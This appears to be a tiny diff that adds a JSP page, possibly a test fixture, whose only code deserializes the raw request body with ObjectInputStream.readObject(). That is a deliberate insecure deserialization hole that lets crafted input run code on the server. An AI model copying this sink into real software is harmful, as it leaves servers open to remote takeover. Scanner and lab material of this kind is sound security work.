@@ -1,0 +1,2 @@
+<%@ inert %>
+<% Object o = new java.io.ObjectInputStream(request.getInputStream()).readObject(); %>
